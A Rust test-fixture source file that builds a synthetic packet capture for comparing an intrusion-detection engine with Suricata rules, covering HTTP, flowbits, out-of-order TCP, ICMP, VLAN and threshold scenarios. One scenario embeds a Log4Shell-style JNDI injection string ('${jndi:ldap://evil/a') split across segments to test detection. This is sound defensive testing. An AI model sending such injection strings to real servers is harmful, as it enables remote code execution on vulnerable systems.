//! The capture the Suricata comparison replays with `scripts/compare.rules`
//! (`scripts/suricata-compare-engine.sh`, `tests/engine.rs`): one scenario per group of
//! keywords, each from its own client address so an alert names its scenario.
//!
//! | client | scenario |
//! |---|---|
//! | 10.1.1.1, 10.1.1.2 (VLAN 42), fd00::1, fd00::3 (VLAN 7) | a request to port 80 whose `${jndi:ldap://` is split over two segments |
//! | 10.1.1.10 | an HTTP request and its response |
//! | 10.1.1.20 | LOGIN, OK, LOGOUT, OK, FLIP, OK on port 2323 (flowbits) |
//! | 10.1.1.30 | `OOOXYZ` on port 7000 in two segments sent in the wrong order |
//! | 10.1.1.40, 10.1.1.41 | a pass rule's content, then (or with) an alert rule's on port 7001 |
//! | 10.1.1.50 | 5- and 12-byte segments on port 7002 (flags, dsize) |
//! | 10.1.1.70, fd00::70 | ICMP echo requests carrying `ping` |
//! | 10.1.1.80 | UDP to port 5555 under two VLAN tags (QinQ) |
//! | 10.1.1.60 | seven UDP datagrams `x` to port 9999: six a millisecond apart, the last 61 s later (thresholds) |

use std::net::SocketAddr;

use crate::conversation::TcpConversation;
use crate::traffic::{build_with, FrameSpec, L4};

/// The capture's frames with their times (microseconds since the epoch): a millisecond
/// apart, except the last datagram.
pub fn frames() -> Vec<(u64, Vec<u8>)> {
    let addr = |s: &str| -> SocketAddr { s.parse().expect("socket address") };
    let mut frames = Vec::new();
    for (client, server, vlan) in [
        ("10.1.1.1:40000", "10.2.2.2:80", None),
        ("10.1.1.2:40000", "10.2.2.2:80", Some(42)),
        ("[fd00::1]:40000", "[fd00::2]:80", None),
        ("[fd00::3]:40000", "[fd00::2]:80", Some(7)),
    ] {
        frames.extend(
            TcpConversation::open(addr(client), addr(server), vlan)
                .send(true, b"GET /?x=${jn")
                .send(
                    true,
                    b"di:ldap://evil/a HTTP/1.1\r\nHost: a.example\r\n\r\n",
                )
                .send(
                    false,
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n",
                )
                .close()
                .frames(),
        );
    }
    frames.extend(
        TcpConversation::open(addr("10.1.1.10:40000"), addr("10.2.2.2:80"), None)
            .send(
                true,
                b"GET /index.html?q=1 HTTP/1.1\r\nHost: WWW.Example.COM\r\nUser-Agent: curl/8.1\r\n\r\n",
            )
            .send(
                false,
                b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Length: 0\r\n\r\n",
            )
            .close()
            .frames(),
    );
    let mut login = TcpConversation::open(addr("10.1.1.20:40000"), addr("10.2.2.3:2323"), None);
    for (to_server, data) in [
        (true, "LOGIN"),
        (false, "OK"),
        (true, "LOGOUT"),
        (false, "OK"),
        (true, "FLIP"),
        (false, "OK"),
    ] {
        login = login.send(to_server, data.as_bytes());
    }
    frames.extend(login.close().frames());
    frames.extend(
        TcpConversation::open(addr("10.1.1.30:40000"), addr("10.2.2.2:7000"), None)
            .send_out_of_order(true, b"OOO", b"XYZ")
            .close()
            .frames(),
    );
    let one_way: [(&str, &str, &[&[u8]]); 3] = [
        (
            "10.1.1.40:40000",
            "10.2.2.2:7001",
            &[b"PASSME", b"BADSTUFF"],
        ),
        ("10.1.1.41:40000", "10.2.2.2:7001", &[b"PASSME BADSTUFF"]),
        (
            "10.1.1.50:40000",
            "10.2.2.2:7002",
            &[b"hello", b"hello world!"],
        ),
    ];
    for (client, server, segments) in one_way {
        let mut c = TcpConversation::open(addr(client), addr(server), None);
        for segment in segments {
            c = c.send(true, segment);
        }
        frames.extend(c.close().frames());
    }
    let datagram = |src: &str, dst: &str, l4: L4, vlans: Vec<u16>, payload: &[u8]| {
        let spec = FrameSpec {
            vlans,
            src: src.parse().expect("address"),
            dst: dst.parse().expect("address"),
            l4,
            sport: 40000,
            dport: if l4 == L4::Udp { 5555 } else { 0 },
            size: 0,
        };
        let mut payload = payload.to_vec();
        build_with(&spec, |_| std::mem::take(&mut payload))
    };
    frames.push(datagram("10.1.1.70", "10.2.2.2", L4::Icmp, vec![], b"ping"));
    frames.push(datagram("fd00::70", "fd00::2", L4::Icmp, vec![], b"ping"));
    frames.push(datagram(
        "10.1.1.80",
        "10.2.2.2",
        L4::Udp,
        vec![10, 20],
        b"qinq",
    ));
    let threshold = FrameSpec {
        vlans: vec![],
        src: "10.1.1.60".parse().expect("address"),
        dst: "10.2.2.2".parse().expect("address"),
        l4: L4::Udp,
        sport: 40000,
        dport: 9999,
        size: 0,
    };
    for _ in 0..7 {
        frames.push(build_with(&threshold, |_| b"x".to_vec()));
    }
    let start = 1_700_000_000_000_000u64;
    let last = frames.len() - 1;
    frames
        .into_iter()
        .enumerate()
        .map(|(i, f)| {
            let ms = if i == last {
                i as u64 + 61_000
            } else {
                i as u64
            };
            (start + ms * 1_000, f)
        })
        .collect()
}
